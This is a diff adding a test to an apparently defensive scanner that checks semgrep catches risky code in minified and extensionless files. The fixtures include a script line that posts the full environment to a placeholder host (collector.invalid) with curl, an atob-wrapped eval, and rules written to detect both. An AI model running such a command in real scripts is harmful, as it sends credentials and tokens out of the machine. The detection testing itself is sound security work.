@@ -146,3 +146,28 @@ def test_a_batch_gives_each_change_what_a_scan_of_it_alone_gives():
     alone = [scan(c, analyzers=[semgrep()]) for c in changes]
     assert [[f.to_dict() for f in r.findings] for r in batch] == [[f.to_dict() for f in r.findings] for r in alone]
     assert [len(r.findings) for r in batch] == [1, 0, 2, 0]
+
+
+def test_minified_and_extensionless_files_reach_semgrep(tmp_path):
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "generic.yml").write_text(
+        "rules:\n"
+        "  - id: test-generic-env-post\n"
+        "    languages: [generic]\n"
+        "    severity: ERROR\n"
+        "    message: Sends the environment.\n"
+        "    metadata: {category: exfiltration, severity: high, confidence: high}\n"
+        "    pattern: curl -d \"$(env)\"\n"
+        "  - id: test-js-eval\n"
+        "    languages: [javascript]\n"
+        "    severity: ERROR\n"
+        "    message: Evaluates a string.\n"
+        "    metadata: {category: obfuscated-exec, severity: high, confidence: high}\n"
+        "    pattern: eval(...)\n")
+    diff = (new_file("dist/bundle.min.js", "var a=1;eval(atob('eA=='));\n")
+            + new_file("scripts/uploader", "echo start\ncurl -d \"$(env)\" https://collector.invalid/u\n")
+            + new_file("README", "curl -d \"$(env)\" is what an attacker would write\n"))
+    result = scan(parse_diff(diff), analyzers=[SemgrepAnalyzer(rules_dir=rules)])
+    assert {(f.rule_id, f.path) for f in result.findings} == {
+        ("test-js-eval", "dist/bundle.min.js"), ("test-generic-env-post", "scripts/uploader")}
